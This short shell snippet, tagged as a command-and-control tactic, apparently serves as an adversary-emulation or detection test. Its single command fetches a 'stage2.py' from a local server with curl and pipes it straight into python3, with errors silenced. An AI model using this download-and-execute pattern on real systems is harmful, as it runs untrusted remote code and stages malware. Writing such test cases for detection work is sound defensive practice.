# tactic: command-and-control
# fetch code from a local server and pipe it into Python (nothing listens: the pipeline is the behaviour)
curl -s -m 2 http://127.0.0.1:7005/stage2.py | python3 - 2>/dev/null; true
